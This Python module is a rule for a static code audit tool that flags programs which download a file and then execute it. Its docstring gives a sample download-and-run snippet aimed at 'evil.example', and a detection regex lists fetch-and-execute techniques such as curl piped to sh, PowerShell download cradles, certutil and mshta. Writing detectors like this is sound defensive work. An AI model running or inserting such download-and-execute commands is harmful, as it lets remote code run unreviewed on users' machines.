"""A file is fetched from another machine and started, or a command does both.

What runs is not in the package, so nobody could look at it before.

Found in `app.py`:

    import os, urllib.request
    urllib.request.urlretrieve('http://evil.example/p', '/tmp/p')
    os.chmod('/tmp/p', 0o755)
    os.system('/tmp/p')

Not found in `app.py`:

    import urllib.request
    urllib.request.urlretrieve('https://example.org/readings.csv', '/tmp/readings.csv')
"""

import ast
import re
from collections.abc import Iterator

from heimnetz_audit.model import Call, Check, Confidence, Hit, PythonModule, Severity
from heimnetz_audit.model.questions import on
from heimnetz_audit.model.threats import PROCESSES, line_of, reaches_network
from heimnetz_audit.scripting.nodes import Assign

_LINES = re.compile(
    r"(curl|wget)\b[^;&\n]*(\|\s*(sudo\s+)?(ba|z)?sh\b|\|\s*python|&&\s*(ba)?sh\b|;\s*(ba)?sh\b"
    r"|-o\s+\S+.*(chmod|\./)|-O\s+\S+.*(chmod|\./))|"
    r"powershell.*(-e(nc|c|ncodedcommand)?\b|downloadstring|downloadfile|iex|invoke-webrequest|"
    r"invoke-expression|-w(indowstyle)?\s+hidden|\biwr\b)|certutil.*-urlcache|bitsadmin.*transfer|"
    r"mshta\s+http|regsvr32.*(http|/i:)|rundll32.*(http|javascript)",
    re.IGNORECASE | re.DOTALL,
)
_STARTS = frozenset(
    "system popen startfile Popen call run check_call check_output execv execve execl spawnl "
    "spawnv ShellExecute ShellExecuteW CDLL WinDLL LoadLibrary create_subprocess_exec run_path "
    "getoutput create_subprocess_shell".split()
)
_SCRIPT_STARTS = frozenset(
    {"exec", "execSync", "spawn", "spawnSync", "execFile", "execFileSync", "fork"}
)
_SCRIPT_WRITERS = frozenset({"createWriteStream", "writeFile", "writeFileSync", "outputFile"})
_FETCHES = frozenset({"urlretrieve", "download"})
_WRITERS = frozenset({"write", "write_bytes", "write_text", "writelines", "copyfileobj"})
_RUNNABLE = re.compile(
    r"\.(exe|dll|scr|bat|cmd|ps1|vbs|msi|sh|elf|bin|jar|so|py|pyw|hta|lnk)$", re.IGNORECASE
)


def _ask_process(call: Call) -> Iterator[Hit]:
    if _LINES.search(line_of(call)):
        yield Hit(message="A command fetches a program and starts it.")


def _ask_module(module: PythonModule) -> Iterator[Hit]:
    if not reaches_network(module) and "wget" not in module.imports:
        return
    stored = _stored(module)
    if not stored:
        return
    for node in module.nodes:
        if isinstance(node, ast.Call) and _starts(module, node):
            used = {_key(inner) for argument in node.args for inner in ast.walk(argument)}
            used |= {_key(inner) for k in node.keywords for inner in ast.walk(k.value)}
            used |= {_program(node)}
            if used & stored - {""}:
                yield Hit(
                    message="A file that was fetched from another machine is started.",
                    line=node.lineno,
                    end_line=node.end_lineno or node.lineno,
                    confidence=Confidence.MEDIUM,
                )


def _starts(module: PythonModule, node: ast.Call) -> bool:
    name = _last(node.func)
    if module.language == "python":
        return name in _STARTS
    # `pattern.exec(text)` is something else.
    owner = node.func.value if isinstance(node.func, ast.Attribute) else None
    is_search = name == "exec" and owner is not None and _key(owner) not in _holders(module)
    return name in _SCRIPT_STARTS and "child_process" in module.imports and not is_search


def _holders(module: PythonModule) -> set[str]:
    """The names that the module of processes is bound to."""
    return {
        node.target.id
        for node in module.nodes
        if isinstance(node, Assign)
        and isinstance(node.target, ast.Name)
        and any(
            isinstance(inner, ast.Constant) and str(inner.value).endswith("child_process")
            for inner in ast.walk(node.value)
        )
    }


def _stored(module: PythonModule) -> set[str]:
    """Names and texts that say where something fetched was put."""
    found: set[str] = set()
    has_write = not module.identifiers.isdisjoint(_WRITERS)
    for node in module.nodes:
        if not isinstance(node, ast.Call):
            continue
        name = _last(node.func)
        if name in _FETCHES and len(node.args) > 1:
            found.update(_key(inner) for inner in ast.walk(node.args[1]))
            found.add(_text(node.args[1]))
        elif name == "open" and has_write and len(node.args) > 1:
            mode = node.args[1]
            if isinstance(mode, ast.Constant) and "w" in str(mode.value):
                found.update(_key(inner) for inner in ast.walk(node.args[0]))
        elif name in _SCRIPT_WRITERS and node.args:
            found.update(_key(inner) for inner in ast.walk(node.args[0]))
            found.add(_text(node.args[0]))
        elif name in ("write_bytes", "write_text") and isinstance(node.func, ast.Attribute):
            found.update(_key(inner) for inner in ast.walk(node.func.value))
    if not _fetches_content(module):
        return set()
    return {name for name in found if name not in _COMMON}


_COMMON = frozenset({"", "os", "path", "join", "tempfile", "sys", "self", "Path", "pathlib", "str",
                     "f", "open", "home", "environ", "process", "__dirname", "fs",
                     "require", "tmpdir", "homedir", "cwd"})  # fmt: skip


def _fetches_content(module: PythonModule) -> bool:
    return module.language != "python" or bool(
        module.identifiers
        & {"urlretrieve", "urlopen", "iter_content", "content", "download", "recv"}
    )


def _program(call: ast.Call) -> str:
    """The path that is started, where it is written out: its first word, or the list's."""
    first = call.args[0] if call.args else None
    if isinstance(first, ast.List | ast.Tuple) and first.elts:
        return _text(first.elts[0])
    words = _text(first).split()
    return words[0] if words else ""


def _text(node: ast.AST | None) -> str:
    """A path that is written out."""
    value = node.value if isinstance(node, ast.Constant) else None
    return value if isinstance(value, str) and ("/" in value or "\\" in value) else ""


def _last(node: ast.expr) -> str:
    if isinstance(node, ast.Attribute):
        return node.attr
    return node.id if isinstance(node, ast.Name) else ""


def _key(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if (
        isinstance(node, ast.Constant)
        and isinstance(node.value, str)
        and _RUNNABLE.search(node.value)
    ):
        return node.value
    return ""


CHECK = Check(
    rule="dropper",
    title="Fetched, then started",
    cwe=494,
    severity=Severity.HIGH,
    remedy="Ship the program in the package, or ask the owner to install it.",
    calls=on(PROCESSES, _ask_process),
    module=_ask_module,
)
